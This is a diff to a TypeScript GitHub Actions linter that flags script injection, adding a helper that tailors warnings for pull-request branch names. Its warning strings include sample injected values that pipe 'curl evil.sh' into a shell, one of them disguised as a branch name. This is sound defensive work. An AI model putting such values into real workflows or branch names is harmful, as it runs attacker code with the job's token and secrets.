@@ -105,10 +105,9 @@ export function analyzeWorkflow(document: YamlDocument, change: WorkflowChange):
             line,
             subject: `${jobId}.steps[${index}] ${first}`,
             message:
-              `\`${match[0].trim()}\` is pasted into the \`${field}:\` source before it runs, and \`${first}\` is ` +
-              'chosen by whoever opens the issue, PR or commit: a value like `"; curl evil.sh | sh #` becomes ' +
-              `code with this job's token and secrets. Pass it through \`env:\` (\`${variable}: ${match[0].trim()}\`) ` +
-              `and read \`${use}\`.`,
+              `\`${match[0].trim()}\` is pasted into the \`${field}:\` source before it runs, and ${whoChooses(first)} ` +
+              `becomes code with this job's token and secrets. Pass it ` +
+              `through \`env:\` (\`${variable}: ${match[0].trim()}\`) and read \`${use}\`.`,
           }),
         );
       }
@@ -177,6 +176,21 @@ export function analyzeWorkflow(document: YamlDocument, change: WorkflowChange):
     );
   }
   return findings.sort((a, b) => (a.line ?? 0) - (b.line ?? 0));
+}
+
+/**
+ * Who decides the value. The PR's own branch (`head_ref`) is named by whoever opens the PR, from a fork too,
+ * and git allows `$`, `;` and backticks in branch names. `github.base_ref` is not untrusted: it is a branch
+ * that already exists in the base repository, created by someone with write access (GitHub's script-injection
+ * docs and Security Lab list `head_ref` only).
+ */
+function whoChooses(reference: string): string {
+  const branch =
+    /^github\.(?:head_ref|event\.pull_request\.head\.(?:ref|label)|event\.workflow_run\.(?:head_branch|pull_requests\.[^.]+\.head\.ref))$/;
+  return branch.test(reference)
+    ? `\`${reference}\` is the pull request's branch name, which whoever opens the PR picks (from a fork too): ` +
+        'a branch named `x";curl$IFS"evil.sh"|sh;#`'
+    : `\`${reference}\` is chosen by whoever opens the issue, PR or commit: a value like \`"; curl evil.sh | sh #\``;
 }
 
 /** `on: push`, `on: [push, pull_request]` or `on: { push: …, pull_request_target: … }`. */
